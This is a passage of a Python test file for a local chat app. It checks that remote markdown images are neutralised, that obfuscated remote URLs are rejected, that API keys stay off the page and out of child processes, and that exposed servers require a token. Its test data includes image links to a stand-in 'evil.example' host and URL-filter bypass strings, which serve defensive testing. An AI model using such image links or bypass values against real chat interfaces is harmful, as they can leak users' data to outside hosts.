    "No images here! Just text, <b>bold</b>, a < b and [a link](https://example.com).",
    "Inline `![x](https://evil.example/a.png)` code.",
    "```markdown\n![x](https://evil.example/b.png)\n```",
    "~~~\n![x](https://evil.example/c.png)\n",  # a fence still open while the reply streams
    "",
])
def test_local_images_text_and_code_are_left_alone(text):
    assert remote_images_as_links(text) == text


def test_code_and_text_in_one_message():
    text = "```\n![a](https://evil.example/a.png)\n```\n\n![b](https://evil.example/b.png)"
    assert remote_images_as_links(text) == "```\n![a](https://evil.example/a.png)\n```\n\n[🖼 b](https://evil.example/b.png)"


def test_local_urls():
    assert is_local_url("picture.png") and is_local_url("/gradio_api/file=x") and is_local_url("DATA:image/png,x")
    for remote_url in ("https://a.example", "//a.example", "/\\a.example", "\\\\a.example", " https://a",
                       "ht\ttps://a.example", "&#104;ttps://a.example", "<https://a.example/x y>", "javascript:x",
                       "/gradio_api/file=https://a.example", "gradio_api/file=http%3A//a", "/gradio_api/fil%65=https://a",
                       "/gradio_api/file=&#104;ttps://a.example", "/gradio_api/proxy=x"):
        assert not is_local_url(remote_url), remote_url


# -- keys stay on the server ----------------------------------------------------------------------------
SECRET = "sk-remote-" + "7" * 24


def test_the_remote_key_never_reaches_the_page(home, page, artifacts):
    """The engine's key is in the settings; /config, the page and its fields never carry it, and
    Settings shows "•••• set" with Replace and Clear."""
    from app.faces.api_server import ApiServer
    from app.services.root import Services
    from app.ui import build_app, launch

    with Services(Settings(model="smollm2", n_ctx=1024)) as engine_side:
        remote = ApiServer(engine_side, port=free_port()).start()  # takes any key
        save_settings(Settings(model="smollm2", n_ctx=1024, remote=remote.url, remote_key=SECRET))
        demo, style = build_app()
        port = free_port()
        launch(demo, style, port=port, block=False)
        url = f"http://127.0.0.1:{port}/"
        try:
            for path in ("/config", "/"):
                status, _, text = ask(url, path)
                assert status == 200 and SECRET not in text.decode(), path
            page.goto(url)
            page.get_by_role("tab", name="Settings").click()
            key_set = page.locator("#engine-key-set")
            key_set.get_by_text("•••• set").wait_for(timeout=30_000)
            assert page.locator("#engine-key input").count() == 0 or not page.locator("#engine-key input").is_visible()
            key_set.scroll_into_view_if_needed()
            page.screenshot(path=str(artifacts / "ui-settings-engine-key-set.png"))
            values = "() => [...document.querySelectorAll('input, textarea')].map(e => e.value).join(' ')"
            assert SECRET not in page.evaluate(values) and SECRET not in page.content()

            page.locator("#engine-key-replace").click()
            page.locator("#engine-key input").click()
            page.keyboard.type("sk-replaced-key")
            page.locator("#engine-use").click()
            page.locator("#engine-status", has_text="Saved").wait_for(timeout=60_000)
            assert demo.nemo.settings.remote_key == "sk-replaced-key"
            key_set.get_by_text("•••• set").wait_for(timeout=30_000)
            assert "sk-replaced-key" not in page.evaluate(values)

            page.locator("#engine-key-clear").click()
            page.locator("#engine-status", has_text="The API key is cleared").wait_for(timeout=60_000)
            assert demo.nemo.settings.remote_key == "" and page.locator("#engine-key input").is_visible()
            status, _, text = ask(url, "/config")
            assert status == 200 and "sk-replaced-key" not in text.decode() and SECRET not in text.decode()
        finally:
            demo.close()
            remote.stop()


def test_a_new_server_url_never_gets_the_saved_key():
    from app.faces.ui_engine import key_to_use

    saved = Settings(remote="http://10.0.0.5:8000/v1", remote_key=SECRET)
    assert key_to_use(saved, "http://10.0.0.5:8000/v1/", "") == SECRET
    assert key_to_use(saved, "https://collector.example/v1", "") == ""
    assert key_to_use(saved, "https://collector.example/v1", " typed ") == "typed"


def test_the_document_reader_gets_no_secrets(home, tmp_path, monkeypatch):
    """The child that reads an untrusted file starts without tokens, keys, HF_* or NEMO_CHAT_*."""
    import subprocess

    from app.base.child_env import is_secret
    from app.documents.parse_limits import parse_in_child

    for name in ("HF_TOKEN", "NEMO_CHAT_REMOTE_KEY", "NEMO_CHAT_TOKEN", "OPENAI_API_KEY", "GITHUB_TOKEN",
                 "AWS_SECRET_ACCESS_KEY", "HF_HOME", "my_password"):
        monkeypatch.setenv(name, "secret-value")
    started, real_popen = [], subprocess.Popen

    def recording_popen(*args, **kwargs):  # the real child runs; its environment is kept to look at
        started.append(kwargs["env"])
        return real_popen(*args, **kwargs)

    monkeypatch.setattr(subprocess, "Popen", recording_popen)
    note = tmp_path / "note.txt"
    note.write_bytes(b"Hello from a file.\n")
    parsed = parse_in_child("text", note, "note.txt", timeout_s=60, memory_mb=2048, max_pages=10)
    assert "Hello from a file." in parsed.markdown
    [env] = started
    assert [name for name in env if is_secret(name) or "secret-value" == env[name]] == []
    assert env["PATH"] == os.environ["PATH"] and "PYTHONPATH" in env
    assert not is_secret("PATH") and not is_secret("LANG") and not is_secret("PYTHONPATH")


# -- a non-loopback bind needs a token -------------------------------------------------------------------
def test_a_non_loopback_bind_without_a_token_exits_2(home, tmp_path, monkeypatch):
    monkeypatch.delenv("NEMO_CHAT_TOKEN", raising=False)
    for args in (["--host", "0.0.0.0"], ["--host", "192.0.2.10"], ["--host", "::"]):
        result = run_cli("ui", *args, "--no-browser", "--port", str(free_port()), home=home, timeout=120)
        assert result.returncode == 2, result.stderr
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and "NEMO_CHAT_TOKEN" in lines[0] and "--token-file" in lines[0], lines
        assert "Traceback" not in result.stderr
    short = tmp_path / "short-token"
    short.write_text("tiny\n")
    for args in (["--token-file", str(short)], ["--token-file", str(tmp_path / "missing")]):
        result = run_cli("ui", "--host", "0.0.0.0", *args, "--no-browser", home=home, timeout=120)
        assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert not (home / "nemo-chat.db").exists(), "nothing starts before the check"


def test_read_token(tmp_path, monkeypatch):
    monkeypatch.delenv("NEMO_CHAT_TOKEN", raising=False)
    assert read_token() is None
    monkeypatch.setenv("NEMO_CHAT_TOKEN", " a-token-of-enough-length \n")
    assert read_token() == "a-token-of-enough-length"
    token_file = tmp_path / "token"
    token_file.write_text("from-the-file-0123456789\nsecond line\n")
    assert read_token(str(token_file)) == "from-the-file-0123456789"


def test_a_non_loopback_bind_with_a_token_needs_it_on_every_route(home, page, tmp_path):
    from test_cli import listening_addresses

    from app.base.config import database_path
    from app.history import History

    seeded = History(database_path())
    cid = seeded.create_conversation("seeded chat")
    seeded.add_message(cid, "user", "A message saved before the server started.")
    seeded.close()
    token = secrets.token_urlsafe(24)
    port = free_port()
    env = {**os.environ, "NEMO_CHAT_HOME": str(home), "NEMO_CHAT_TOKEN": token,
           "NEMO_CHAT_ALLOWED_HOSTS": "other.example"}
    server = subprocess.Popen([sys.executable, "-m", "app", "--home", str(home), "ui", "--host", "0.0.0.0",
                               "--port", str(port), "--no-browser", "--allow-host", "chat.example"],
                              env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}/"
    bearer = {"Authorization": f"Bearer {token}"}
    basic = {"Authorization": "Basic " + base64.b64encode(f"nemo:{token}".encode()).decode()}
    try:
        def answering() -> bool:
            assert server.poll() is None, server.stdout.read()
            try:
                return ask(url, "/gradio_api/info")[0] > 0
            except OSError:
                return False

        wait_until(answering, timeout=180, what="the server")
        assert listening_addresses(port) == {"0.0.0.0"}
        upload, upload_headers = upload_body("note.txt", b"hello")
        for method, path, body, headers in [("GET", "/", None, {}), ("GET", "/gradio_api/info", None, {}),
                                            ("POST", "/gradio_api/upload", upload, upload_headers),
                                            ("POST", "/gradio_api/queue/join", b"{}", {"Content-Type": "application/json"})]:
            status, response_headers, text = ask(url, path, method, body=body, headers=headers)
            assert status == 401, (path, status)
            assert response_headers["WWW-Authenticate"].startswith("Basic") and text.decode().count("\n") == 1
        wrong = {"Authorization": "Bearer " + token[:-1] + ("x" if token[-1] != "x" else "y")}
        stranger = {"Authorization": "Basic " + base64.b64encode(f"root:{token}".encode()).decode()}
        assert ask(url, "/gradio_api/info", headers=wrong)[0] == 401
        assert ask(url, "/gradio_api/info", headers=stranger)[0] == 401
        status, _, text = ask(url, "/gradio_api/info", headers=bearer)
        assert status == 200 and "named_endpoints" in json.loads(text)
        assert ask(url, "/gradio_api/info", headers=basic)[0] == 200
        for host in (f"chat.example:{port}", "other.example", f"localhost:{port}", f"192.0.2.7:{port}"):
            assert ask(url, "/gradio_api/info", host=host, headers=bearer)[0] == 200, host
        assert ask(url, "/gradio_api/info", host=f"evil.example:{port}", headers=bearer)[0] == 421

        browser = page.context.browser
        for credentials in (None, {"username": "nemo", "password": "not-the-token-at-all"}):
            try:  # headless Chromium either shows the 401 or gives up on the login prompt
                status = browser.new_context(http_credentials=credentials).new_page().goto(url).status
            except PlaywrightError as error:
                status = 401 if "ERR_INVALID_AUTH_CREDENTIALS" in str(error) else str(error)
            assert status == 401, (credentials, status)
        signed_in = browser.new_context(http_credentials={"username": "nemo", "password": token}).new_page()
        signed_in.goto(url)
        signed_in.locator("#conversation-list label", has_text="seeded chat").click()
        signed_in.locator("#chatbot", has_text="saved before the server started").wait_for(timeout=60_000)
    finally:
        server.terminate()
        output = server.communicate(timeout=60)[0]
    notices = [line for line in output.splitlines() if "reachable from other machines" in line]
    assert len(notices) == 1 and "token" in notices[0], output
